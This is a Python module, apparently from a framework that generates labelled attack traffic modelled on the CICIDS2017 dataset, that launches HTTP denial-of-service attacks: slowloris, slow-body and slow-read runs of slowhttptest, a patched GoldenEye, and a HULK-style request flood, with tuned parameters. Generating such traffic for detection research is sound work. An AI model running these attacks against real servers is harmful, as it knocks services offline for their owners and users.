"""Denial of service by one host: slow requests and slow reading (slowhttptest), floods of requests (goldeneye, our own).

slowhttptest ends by itself after `seconds`; goldeneye never does, and has a limit of processor time (of which a second makes
some 5,000 requests). The flood of our own is what the HULK of CICIDS2017 does: many GETs, each for another query so that no
cache answers, headers drawn anew each time.
"""

from __future__ import annotations

from collections.abc import Iterator, Mapping
from pathlib import Path

from ..site import Attack, Line, Site, Value
from . import instance, requests
from .kind import Kind

SERVER: Mapping[str, Value] = {"port": 80, "path": "/", "seconds": 45.0}
SLOW: Mapping[str, Value] = {**SERVER, "connections": 150, "rate": 25, "every_s": 5}
"""every_s: between two pieces of a request, whole seconds."""

SLOWHTTPTEST_ENDED = (0, 1)
"""1 where the server closed all connections before the time was over."""


def _url(attack: Attack, site: Site) -> str:
    return f"http://{instance.target(attack, site)}:{instance.whole(attack, 'port')}{instance.text(attack, 'path')}"


def _lines(attack: Attack, site: Site) -> Iterator[Line]:
    yield from instance.between(attack, site, dst_port=str(instance.whole(attack, "port")), protocol="tcp")


def _slowhttptest(attack: Attack, site: Site, run: Path, *mode: str) -> Iterator[Line]:
    yield from _lines(attack, site)
    length = ("-c", str(instance.whole(attack, "connections")), "-r", str(instance.whole(attack, "rate")))
    timing = ("-i", str(instance.whole(attack, "every_s")), "-l", str(round(instance.number(attack, "seconds"))), "-p", "3")
    tool = instance.program("slowhttptest", "slowhttptest")
    # -v 1: nothing but what matters, else it repaints its table each second
    argv = (tool, *mode, *length, *timing, "-v", "1", "-u", _url(attack, site))
    instance.call(attack, run, argv, accepted=SLOWHTTPTEST_ENDED)


def slowloris(attack: Attack, site: Site, run: Path) -> Iterator[Line]:
    """Send headers that never end."""
    return _slowhttptest(attack, site, run, "-H", "-x", str(instance.whole(attack, "piece_bytes")))


def slow_body(attack: Attack, site: Site, run: Path) -> Iterator[Line]:
    """Send bodies that never end."""
    length = str(instance.whole(attack, "body_bytes"))
    return _slowhttptest(attack, site, run, "-B", "-s", length, "-x", str(instance.whole(attack, "piece_bytes")))


def slow_read(attack: Attack, site: Site, run: Path) -> Iterator[Line]:
    """Ask for a page and read it in sips, through a small window."""
    window = ("-w", str(instance.whole(attack, "window_low")), "-y", str(instance.whole(attack, "window_high")))
    sips = ("-n", str(instance.whole(attack, "read_every_s")), "-z", str(instance.whole(attack, "read_bytes")))
    return _slowhttptest(attack, site, run, "-X", *window, *sips, "-k", str(instance.whole(attack, "pages")))


def goldeneye(attack: Attack, site: Site, run: Path) -> Iterator[Line]:
    """Keep many connections open and ask for something on each."""
    yield from _lines(attack, site)
    size = ("-w", str(instance.whole(attack, "workers")), "-s", str(instance.whole(attack, "sockets")))
    method = ("-m", instance.text(attack, "method", "get", "post", "random"))
    # it knows no end: each worker is killed by the kernel when it has used up its time on the processor
    limited = (instance.program("prlimit", "util-linux"), f"--cpu={instance.whole(attack, 'cpu_s')}", "--core=0")
    argv = (*limited, "/usr/bin/python3", str(_mended_goldeneye(attack, run)), _url(attack, site), *size, *method)
    instance.call(attack, run, argv, seconds=instance.number(attack, "seconds"))


def _mended_goldeneye(attack: Attack, run: Path) -> Path:
    """Copy the tool with one sign put right: Debian 12's divides where Python 3.11 wants a whole number, and sends nothing."""
    program = Path(instance.program("goldeneye", "goldeneye"))
    mended = instance.folder(attack, run) / "goldeneye"
    mended.write_text(program.read_text("utf-8").replace("len(acceptEncoding)/2)", "len(acceptEncoding)//2)"), "utf-8")
    return mended


def http_flood(attack: Attack, site: Site, run: Path) -> Iterator[Line]:
    """Ask for as many pages as can be, each time for another one."""
    yield from _lines(attack, site)
    requests.flood(attack, site, run, [instance.source(attack, site)], instance.whole(attack, "requests"))


KINDS = (
    Kind(
        "slowloris",
        "DoS slowloris",
        ("slowhttptest",),
        ("slowhttptest",),
        {**SLOW, "piece_bytes": 24},
        slowloris,
        "headers that never end",
        quiet=True,
    ),
    Kind(
        "slow_body",
        "DoS Slowhttptest",
        ("slowhttptest",),
        ("slowhttptest",),
        {**SLOW, "path": "/login", "piece_bytes": 10, "body_bytes": 8192},
        slow_body,
        "bodies that never end",
        quiet=True,
    ),
    Kind(
        "slow_read",
        "DoS Slowhttptest",
        ("slowhttptest",),
        ("slowhttptest",),
        {**SLOW, "window_low": 8, "window_high": 64, "read_every_s": 2, "read_bytes": 16, "pages": 3},
        slow_read,
        "answers read in sips",
        quiet=True,
    ),
    Kind(
        "goldeneye",
        "DoS GoldenEye",
        ("goldeneye",),
        ("goldeneye",),
        {**SERVER, "workers": 1, "sockets": 10, "cpu_s": 1, "method": "get"},
        goldeneye,
        "many connections kept busy",
        quiet=True,
    ),
    Kind(
        "http_flood",
        "DoS Hulk",
        (),
        (),
        {**SERVER, "seconds": 25.0, "requests": 4000, "together": 60, "rate": 200},
        http_flood,
        "many GETs from one host",
        quiet=True,
    ),
)
